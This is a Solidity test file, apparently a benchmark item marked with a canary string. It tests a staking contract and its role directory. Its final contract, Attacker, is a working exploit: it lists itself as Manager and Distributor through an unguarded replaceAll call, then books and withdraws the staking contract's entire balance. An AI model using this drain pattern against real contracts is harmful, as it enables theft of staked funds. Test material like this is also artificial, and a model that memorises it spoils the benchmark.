// SPDX-License-Identifier: AGPL-3.0-or-later
pragma solidity 0.8.30;

import "./DelegatedStakes.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-bbd06869-3e04-4019-b682-c166b9696a7d

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() ERC20("Token", "TKN") {
        _mint(msg.sender, 300_000_000e18);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant OWNER = address(0x0E);
    address internal constant MANAGER = address(0x3A);
    address internal constant DISTRIBUTOR = address(0xD1);
    address internal constant TREASURY = address(0x72);
    address internal constant RUNNER = address(0x22);
    address internal constant STRANGER = address(0x57A);
    uint256 internal constant STAKES = 218_000_000e18;

    Token internal coin;
    Directory internal directory;
    DelegatedStakes internal stakes;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1_776_000_000);
        coin = new Token();
        directory = new Directory(OWNER);
        stakes = new DelegatedStakes(coin, directory);
        Part[] memory parts = new Part[](3);
        address[] memory current = new address[](3);
        (parts[0], parts[1], parts[2]) = (Part.Manager, Part.Distributor, Part.Treasury);
        (current[0], current[1], current[2]) = (MANAGER, DISTRIBUTOR, TREASURY);
        vm.prank(OWNER);
        directory.replaceAll(parts, current);
        coin.approve(address(stakes), type(uint256).max);
        stakes.stake(RUNNER, STAKES);
        mallory = new Attacker(directory, stakes, coin);
    }

    function test_Regular() public {
        require(directory.addressOf(Part.Treasury) == TREASURY, "listed");
        stakes.stake(RUNNER, 1_000e18);
        require(stakes.staked(address(this), RUNNER) == STAKES + 1_000e18, "staked");
        stakes.unstake(RUNNER, 400e18);
        require(stakes.exitOf(address(this), 0).amount == 400e18, "on its way out");
        uint256 before = coin.balanceOf(address(this));
        vm.prank(MANAGER);
        stakes.payExit(address(this), 0);
        require(coin.balanceOf(address(this)) == before + 399.6e18 && coin.balanceOf(TREASURY) == 0.4e18, "paid");
        require(stakes.exitOf(address(this), 0).paid, "once");

        coin.transfer(address(stakes), 50e18);
        vm.prank(DISTRIBUTOR);
        stakes.bookCommission(RUNNER, 50e18);
        vm.startPrank(OWNER);
        directory.replace(Part.Manager, RUNNER);
        directory.transferOwnership(RUNNER);
        vm.stopPrank();
        vm.prank(RUNNER);
        directory.renounceOwnership();
        vm.prank(RUNNER);
        stakes.payExit(RUNNER, 0);
        require(coin.balanceOf(RUNNER) == 49.95e18, "commission");
    }

    function test_RefusesOtherCallers() public {
        vm.prank(STRANGER);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, STRANGER));
        directory.replace(Part.Manager, STRANGER);
        stakes.unstake(RUNNER, 1);
        vm.expectRevert(abi.encodeWithSelector(DelegatedStakes.NotThePart.selector, Part.Manager, address(this)));
        stakes.payExit(address(this), 0);
        vm.prank(MANAGER);
        vm.expectRevert(abi.encodeWithSelector(DelegatedStakes.NotThePart.selector, Part.Distributor, MANAGER));
        stakes.bookCommission(RUNNER, 1);
    }

    function test_RefusesListsThatDoNotFit() public {
        vm.startPrank(OWNER);
        vm.expectRevert(abi.encodeWithSelector(Directory.LengthsDiffer.selector, 0, 1));
        directory.replaceAll(new Part[](0), new address[](1));
        vm.expectRevert(abi.encodeWithSelector(Directory.AddressMissing.selector, Part.Manager));
        directory.replaceAll(new Part[](1), new address[](1));
        vm.stopPrank();
    }

    function test_RefusesExitsThatAreNot() public {
        vm.expectRevert(abi.encodeWithSelector(DelegatedStakes.NothingStaked.selector));
        stakes.stake(RUNNER, 0);
        stakes.unstake(RUNNER, 5e18);
        vm.startPrank(MANAGER);
        vm.expectRevert(abi.encodeWithSelector(ExitQueue.NoSuchExit.selector, address(this), 1));
        stakes.payExit(address(this), 1);
        stakes.payExit(address(this), 0);
        vm.expectRevert(abi.encodeWithSelector(DelegatedStakes.AlreadyPaid.selector, address(this), 0));
        stakes.payExit(address(this), 0);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 217_000_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(directory);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(coin);
    }
}

/// Lists itself as two parts of the network, books a commission for itself and pays it.
contract Attacker {
    Directory internal directory;
    DelegatedStakes internal stakes;
    IERC20 internal coin;

    constructor(Directory directory_, DelegatedStakes stakes_, IERC20 coin_) {
        directory = directory_;
        stakes = stakes_;
        coin = coin_;
    }

    function run() external {
        Part[] memory parts = new Part[](2);
        address[] memory current = new address[](2);
        (parts[0], parts[1]) = (Part.Manager, Part.Distributor);
        (current[0], current[1]) = (address(this), address(this));
        directory.replaceAll(parts, current);
        stakes.bookCommission(address(this), coin.balanceOf(address(stakes)));
        stakes.payExit(address(this), 0);
    }
}
